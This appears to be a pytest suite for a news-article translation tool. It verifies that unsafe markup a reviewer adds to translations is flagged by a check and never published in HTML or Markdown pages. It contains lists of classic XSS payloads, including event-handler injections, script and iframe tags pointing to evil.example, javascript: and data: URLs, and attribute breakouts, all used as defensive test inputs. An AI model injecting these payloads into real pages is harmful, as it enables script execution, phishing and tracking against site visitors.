"""The English page is safe to publish: markup a person's text adds beyond its source is flagged by
``check`` and never reaches the page (``build``, ``run``, an XLIFF import then ``build``).

Every translation here is written by the test (the fixture model's output is not relied on); the
built page is parsed with lxml (libxml2), another parser than the rule's own ``html.parser``, and a
Markdown page is first rendered as a lax CMS would (raw HTML on, every link scheme accepted).
"""

from __future__ import annotations

import re
import shutil
from collections import Counter
from pathlib import Path

import lxml.etree
import lxml.html
import polib
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from markdown_it import MarkdownIt
from support import FIXTURE_MODEL, run_cli

from translate_news.documents import publish
from translate_news.documents.publish import allowed_markup, unsafe_additions
from translate_news.glossary.model import Glossary
from translate_news.mt.engine import EngineOptions
from translate_news.pipeline.runner import RunConfig, build_output, run
from translate_news.qa.folder import check_folder
from translate_news.review.catalog import catalog_text, read_catalog
from translate_news.review.xliff_merge import import_xliff

HTML_SLUG, MD_SLUG = "bilancio-comune", "bilancio-quartiere"
HTML_PAGE = """<!DOCTYPE html>
<html lang="it"><head><meta charset="utf-8"><title>Il consiglio comunale approva il bilancio</title>
<script>var sezione = "cronaca";</script></head>
<body><article>
<h1>Il consiglio comunale approva il bilancio</h1>
<p>Il sindaco ha presentato il piano ai cittadini. La seduta &egrave; durata tre ore.</p>
<p>Il documento completo &egrave; sul <a href="https://comune.esempio.it/bilancio">sito del comune</a>.</p>
<!-- fine del testo -->
<figure><img src="aula.jpg" alt="La sala del consiglio">
<figcaption>I consiglieri al voto</figcaption></figure>
</article></body></html>
"""
MD_PAGE = """---
title: Il quartiere discute il bilancio
---

# Il quartiere discute il bilancio

Il sindaco ha presentato il piano ai cittadini. La seduta è durata tre ore.

Il documento completo è sul [sito del comune](https://comune.esempio.it/bilancio).
"""
SENTENCE = "Il sindaco ha presentato il piano ai cittadini."
LINKED = "Il documento completo"  # the msgid that starts so holds the source's own link
ENGLISH = "The mayor presented the plan to the residents"

# Classic shapes, written for these tests: each is put into a reviewer's msgstr.
HTML_VECTORS = [
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)></svg>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>more</details>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    "<style>body { display: none }</style>",
    '<form action="https://evil.example/"><button>Sign in</button></form>',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<a href="javascript:alert(1)">the plan</a>',
    '<a href="JaVaScRiPt:alert(1)">the plan</a>',
    '<a href=" &#106;avascript:alert(1)">the plan</a>',
    '<a href="jav&#x09;ascript:alert(1)">the plan</a>',
    '<a href="java\nscript:alert(1)">the plan</a>',
    '<a href="vbscript:msgbox(1)">the plan</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">the plan</a>',
    '<a href="https://comune.esempio.it/bilancio" onmouseover="alert(1)">the plan</a>',
    "<!-- the rest of the page is hidden",
    "<!-- a note -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)",  # left open: in the page it runs on into </p>
    '<a title="x',
    "</title><script>alert(1)</script>",
]
MD_VECTORS = [
    "[the plan](javascript:alert(1))",
    "[the plan](JAVASCRIPT:alert(1))",
    "[the plan](jav&#x09;ascript:alert(1))",
    "[the plan](  javascript:alert(1) 'title')",
    "[the plan](vbscript:msgbox(1))",
    "[the plan](data:text/html;base64,PHNjcmlwdD4=)",
    "<javascript:alert(1)>",
    "![the plan](javascript:alert(1))",
    "![pixel](https://evil.example/p.gif)",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    '<iframe src="https://evil.example/"></iframe>',
    "<svg onload=alert(1)>",
    '<a href="javascript:alert(1)">the plan</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<details open ontoggle=alert(1)>",
    "<!-- hidden",
    "[the plan](javascript:alert(1)",  # left open: the page's next text could close it
    "[the plan]: javascript:alert(1)",  # a link reference definition
]
ACTIVE_ELEMENTS = frozenset(
    ["script", "iframe", "frame", "frameset", "object", "embed", "applet", "meta", "base", "link"]
    + ["style", "form", "svg", "math", "img", "video", "audio", "source", "details", "body"]
)
URL_ATTRIBUTES = ("href", "src", "action", "formaction", "data", "xlink:href")


@pytest.fixture(scope="module")
def translated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One real run over an HTML and a Markdown article (our own text) with the fixture model."""
    articles = tmp_path_factory.mktemp("articles")
    (articles / f"{HTML_SLUG}.html").write_text(HTML_PAGE, encoding="utf-8")
    (articles / f"{MD_SLUG}.md").write_text(MD_PAGE, encoding="utf-8")
    out = tmp_path_factory.mktemp("out") / "output"
    run(RunConfig(articles, out, None, FIXTURE_MODEL, EngineOptions(threads=1)))
    return out


def _copy(translated: Path, tmp_path: Path) -> Path:
    out = tmp_path / "output"
    shutil.copytree(translated, out)
    return out


def _review(out: Path, slug: str, starts: str, msgstr: str) -> int:
    """A reviewer writes ``msgstr`` for the entry whose msgid starts with ``starts`` and signs it off;
    returns the entry's line."""
    po_path = out / slug / f"{slug}.en.po"
    catalog = read_catalog(po_path)
    assert catalog is not None
    entry = next(e for e in catalog if e.msgid.startswith(starts) and not e.obsolete)
    entry.msgstr = msgstr
    if "fuzzy" in entry.flags:
        entry.flags.remove("fuzzy")
    po_path.write_text(catalog_text(catalog), encoding="utf-8")
    return next(e.linenum for e in polib.pofile(str(po_path)) if e.msgid == entry.msgid)


def _md_to_html(text: str) -> str:
    """A Markdown page as a lax CMS renders it: front matter dropped, raw HTML and every URL kept."""
    if text.startswith("---\n"):
        text = text.split("\n---\n", 1)[1]
    md = MarkdownIt("commonmark")
    md.validateLink = lambda url: True  # type: ignore[method-assign]
    return f"<html><body>{md.render(text)}</body></html>"


def _scheme(value: str) -> str:
    """The scheme as the WHATWG URL parser finds it: C0 controls and spaces trimmed, tabs and newlines
    removed anywhere, then a letter and letters, digits, "+", "-", "." before ":"."""
    plain = "".join(c for c in value if c not in "\t\n\r").strip("".join(map(chr, range(33))))
    match = re.match(r"[A-Za-z][A-Za-z0-9+.-]*:", plain)
    return match.group()[:-1].lower() if match else ""


def active(page: str) -> Counter[str]:
    """What in a page can act, as libxml2 parses it: elements that run, load, embed, submit or
    redirect; event attributes; URLs other than http(s)/mailto/tel/relative; comments."""
    root = lxml.html.document_fromstring(page)
    found: Counter[str] = Counter()
    for element in root.iter():
        if not isinstance(element.tag, str):
            found["comment" if isinstance(element, etree._Comment) else "other node"] += 1
            continue
        tag = element.tag.lower()
        if tag in ACTIVE_ELEMENTS:
            found[f"<{tag}>"] += 1
        for name, value in element.attrib.items():
            if name.lower().startswith("on") or name.lower() == "srcdoc":
                found[f"{name.lower()}="] += 1
            if name.lower() in URL_ATTRIBUTES and _scheme(value) not in (
                "",
                "http",
                "https",
                "mailto",
                "tel",
            ):
                found[f"{_scheme(value)}: URL"] += 1
    return found


def _unsafe_findings(out: Path) -> list[str]:
    run_ = check_folder(out, Glossary(None, ()))
    return [f"{f.where} {f.message}" for f in run_.findings if f.check == "unsafe-markup"]


def _msgstrs(out: Path, slug: str) -> list[str]:
    return [e.msgstr for e in polib.pofile(str(out / slug / f"{slug}.en.po"))]


def _page(out: Path, slug: str, suffix: str) -> str:
    return (out / slug / f"{slug}.en{suffix}").read_text(encoding="utf-8")


@pytest.mark.parametrize("vector", HTML_VECTORS)
def test_html_vector_is_flagged_and_never_published(vector: str, translated: Path, tmp_path: Path) -> None:
    out = _copy(translated, tmp_path)
    msgstr = f"{ENGLISH} {vector}."
    line = _review(out, HTML_SLUG, SENTENCE, msgstr)
    flagged = _unsafe_findings(out)
    assert flagged and all(f.startswith(f"{out / HTML_SLUG / HTML_SLUG}.en.po:{line} ") for f in flagged)
    built = build_output(out)
    assert [b.refused for b in built if b.english.parent.name == HTML_SLUG] == [1]
    page = _page(out, HTML_SLUG, ".html")
    assert active(page) == active(HTML_PAGE)
    assert msgstr in _msgstrs(out, HTML_SLUG)  # the person's text stays in the catalog


@pytest.mark.parametrize("vector", MD_VECTORS)
def test_markdown_vector_is_flagged_and_never_published(
    vector: str, translated: Path, tmp_path: Path
) -> None:
    out = _copy(translated, tmp_path)
    _review(out, MD_SLUG, SENTENCE, f"{ENGLISH} {vector}.")
    assert _unsafe_findings(out)
    build_output(out)
    assert active(_md_to_html(_page(out, MD_SLUG, ".md"))) == active(_md_to_html(MD_PAGE))


def test_attribute_breakout_in_an_attribute_value(translated: Path, tmp_path: Path) -> None:
    """alt="…" is a sentence too: a quote cannot end it, and check names the attempt."""
    out = _copy(translated, tmp_path)
    _review(out, HTML_SLUG, "La sala del consiglio", 'The council chamber" onerror="alert(1)')
    assert _unsafe_findings(out)
    build_output(out)
    assert active(_page(out, HTML_SLUG, ".html")) == active(HTML_PAGE)


def test_the_sources_own_markup_and_plain_formatting_are_published(translated: Path, tmp_path: Path) -> None:
    """Nothing is refused for keeping the source's link, adding emphasis or writing "<" as text."""
    out = _copy(translated, tmp_path)
    linked = (
        'The full document is on the <a href="https://comune.esempio.it/bilancio">council\'s site</a> '
        "&amp; <em>free</em> for 3 &lt; 4 readers."
    )
    _review(out, HTML_SLUG, LINKED, linked)
    _review(
        out,
        MD_SLUG,
        LINKED,
        "The full document is on the [council's site](https://comune.esempio.it/bilancio).",
    )
    _review(out, MD_SLUG, SENTENCE, f"{ENGLISH}: *all* of it, `<script>` tags & a < b included.")
    assert _unsafe_findings(out) == []
    built = build_output(out)
    assert [b.refused for b in built] == [0, 0]
    assert linked in _page(out, HTML_SLUG, ".html")
    assert "`<script>` tags & a < b included." in _page(out, MD_SLUG, ".md")


def test_build_reports_the_refused_sentence_and_exits_1(translated: Path, tmp_path: Path) -> None:
    out = _copy(translated, tmp_path)
    _review(out, HTML_SLUG, SENTENCE, f"{ENGLISH} <img src=x onerror=alert(1)>.")
    result = run_cli("build", "-o", out)
    assert result.returncode == 1, result.stderr
    assert "Traceback" not in result.stderr
    assert f"{HTML_SLUG}.en.html: 1 translations add markup that is unsafe to publish" in result.stderr
    assert SENTENCE in _page(out, HTML_SLUG, ".html")  # the Italian sentence stands in for it
    checked = run_cli("check", "-o", out, "--no-glossary")
    assert "unsafe markup not in the source: <img src=x onerror=alert(1)>" in checked.stdout
    articles = tmp_path / "articles"
    articles.mkdir()
    (articles / f"{HTML_SLUG}.html").write_text(HTML_PAGE, encoding="utf-8")
    ran = run_cli("run", articles, "-o", out, "--model", FIXTURE_MODEL, "--no-glossary", "--threads", "1")
    assert ran.returncode == 1 and "warning: 1 translations add markup that is unsafe" in ran.stderr


def test_run_assembles_the_page_by_the_same_rule(translated: Path, tmp_path: Path) -> None:
    """A reviewed msgstr kept by the next run: run's own page assembly refuses it too."""
    out = _copy(translated, tmp_path)
    msgstr = f"{ENGLISH} <svg onload=alert(1)>."
    _review(out, HTML_SLUG, SENTENCE, msgstr)
    articles = tmp_path / "articles"
    articles.mkdir()
    (articles / f"{HTML_SLUG}.html").write_text(HTML_PAGE, encoding="utf-8")
    summary = run(RunConfig(articles, out, None, FIXTURE_MODEL, EngineOptions(threads=1)))
    assert summary.refused == 1
    assert active(_page(out, HTML_SLUG, ".html")) == active(HTML_PAGE)
    assert msgstr in _msgstrs(out, HTML_SLUG)


def test_the_memory_does_not_carry_a_refused_translation_to_other_articles(
    translated: Path, tmp_path: Path
) -> None:
    """The next run learns the reviewed sentence; the other article with the same Italian sentence
    gets a machine draft, not the markup its page would refuse."""
    out = _copy(translated, tmp_path)
    msgstr = f"{ENGLISH} <img src=x onerror=alert(1)>."
    _review(out, HTML_SLUG, SENTENCE, msgstr)
    articles = tmp_path / "articles"
    articles.mkdir()
    (articles / f"{HTML_SLUG}.html").write_text(HTML_PAGE, encoding="utf-8")
    (articles / f"{MD_SLUG}.md").write_text(MD_PAGE, encoding="utf-8")
    summary = run(RunConfig(articles, out, None, FIXTURE_MODEL, EngineOptions(threads=1)))
    assert summary.refused == 1 and summary.from_memory == 0
    assert msgstr in _msgstrs(out, HTML_SLUG) and msgstr not in _msgstrs(out, MD_SLUG)
    assert _unsafe_findings(out) and all(f"{MD_SLUG}.en.po" not in f for f in _unsafe_findings(out))


def _exported_segment(out: Path, tmp_path: Path) -> tuple[Path, etree._ElementTree, etree._Element]:
    exported = tmp_path / f"{HTML_SLUG}.it-en.xlf"
    shutil.copy(out / HTML_SLUG / exported.name, exported)
    tree = etree.parse(str(exported))
    segment = next(
        s
        for s in tree.iterfind(".//x:segment", X20)
        if "".join(s.find("x:source", X20).itertext()) == SENTENCE
    )
    segment.set("state", "final")
    return exported, tree, segment


X20 = {"x": "urn:oasis:names:tc:xliff:document:2.0"}


def test_markup_typed_as_text_in_a_cat_tool_stays_text(translated: Path, tmp_path: Path) -> None:
    """A ``<`` a translator types in a target is a character: it reaches the PO as ``&lt;``, never as
    markup (an HTML article's inline markup travels as codes, not as text)."""
    out = _copy(translated, tmp_path)
    exported, tree, segment = _exported_segment(out, tmp_path)
    segment.find("x:target", X20).text = f"{ENGLISH} <img src=x onerror=alert(1)>."
    tree.write(str(exported), xml_declaration=True, encoding="UTF-8")
    po_path, result = import_xliff(exported, out)
    assert result.reviewed == 1 and result.unsafe == ()
    assert f"{ENGLISH} &lt;img src=x onerror=alert(1)&gt;." in _msgstrs(out, HTML_SLUG)
    build_output(out)
    assert "<img src=x" not in _page(out, HTML_SLUG, ".html")


def test_xliff_markup_added_as_a_code_goes_to_the_po_but_not_to_the_page(
    translated: Path, tmp_path: Path
) -> None:
    """Markup a tool adds as a new code (its own ``<originalData>``) is the person's text in the PO and
    refused on the page."""
    out = _copy(translated, tmp_path)
    exported, tree, segment = _exported_segment(out, tmp_path)
    unit = segment.getparent()
    data_el = unit.find("x:originalData", X20)
    if data_el is None:
        data_el = etree.Element(f"{{{X20['x']}}}originalData")
        segment.addprevious(data_el)
    etree.SubElement(data_el, f"{{{X20['x']}}}data", id="evil").text = "<img src=x onerror=alert(1)>"
    target = segment.find("x:target", X20)
    for child in list(target):
        target.remove(child)
    target.text = f"{ENGLISH} "
    etree.SubElement(target, f"{{{X20['x']}}}ph", id="99", dataRef="evil").tail = "."
    tree.write(str(exported), xml_declaration=True, encoding="UTF-8")
    po_path, result = import_xliff(exported, out)
    assert result.reviewed == 1 and len(result.unsafe) == 1 and "onerror" in result.unsafe[0]
    assert f"{ENGLISH} <img src=x onerror=alert(1)>." in _msgstrs(out, HTML_SLUG)  # the person's text
    build_output(out)
    assert active(_page(out, HTML_SLUG, ".html")) == active(HTML_PAGE)


# --- the rule itself: its cost, and against another parser ----------------------------------------


@pytest.mark.parametrize("fmt", ["html", "md"])
@pytest.mark.parametrize("shape", ["<a ", "<!--", "<a href='", "<img src=x onerror=1>", "[x](", "]: data:"])
def test_the_rule_reads_each_sentence_once_and_bounded(
    fmt: str, shape: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """html.parser is fed each sentence once, never an HTML one over LONGEST_HTML characters (its time
    grows with the square of a text full of tags left open), and each piece found is one "<" or link."""
    fed: list[int] = []
    feed = publish._Scanner.feed
    monkeypatch.setattr(
        publish._Scanner, "feed", lambda self, data: (fed.append(len(data)), feed(self, data))[1]
    )
    for repeats in (10, 100, 1_000, 10_000):
        fed.clear()
        target = shape * repeats
        found = unsafe_additions("Ciao.", target, fmt)
        limit = min(len(target), publish.LONGEST_HTML) if fmt == "html" else len(target)
        assert bool(found) == ("<" in shape or fmt == "md")  # Markdown links are text in HTML
        assert sum(fed) <= limit + len("Ciao.")
        assert len(found) <= target.count("<") + target.count("](") + target.count("]:")


PIECES = [
    "<", ">", "/", " ", "=", '"', "'", "`", "a", "img", "em", "svg", "script", "x", "href", "src",
    "onerror", "title", "javascript:", "JaVa", "script:", "data:", "&#x09;", "&#106;", "&lt;", "<!--",
    "-->", "<!", "<?", "]]>", "https://e.it/", "\n", "\t", "(", ")", "[", "]", "![", "](",
]  # fmt: skip
SOURCE_LINK = 'Il <a href="https://e.it/">piano</a>.'


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_what_the_rule_lets_through_is_inert_in_an_html_page(target: str) -> None:
    """Whatever passes the rule (read with html.parser) is inert when libxml2 parses the page."""
    if unsafe_additions(SOURCE_LINK, target, "html"):
        return
    page = f"<html><body><p>{target}</p><p>fine</p></body></html>"
    source = f"<html><body><p>{SOURCE_LINK}</p><p>fine</p></body></html>"
    assert active(page) - active(source) == Counter()
    allowed = allowed_markup().elements | {"html", "body", "p"}
    root = lxml.html.document_fromstring(page)
    assert {e.tag for e in root.iter() if isinstance(e.tag, str)} <= allowed


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.sampled_from(PIECES), max_size=24).map("".join))
def test_what_the_rule_lets_through_is_inert_in_a_markdown_page(target: str) -> None:
    if unsafe_additions("Il [piano](https://e.it/).", target, "md"):
        return
    page = _md_to_html(f"Il sindaco. {target} Fine.\n\nAltro.\n")
    assert active(page) - active(_md_to_html("Il sindaco. Fine.\n")) == Counter()
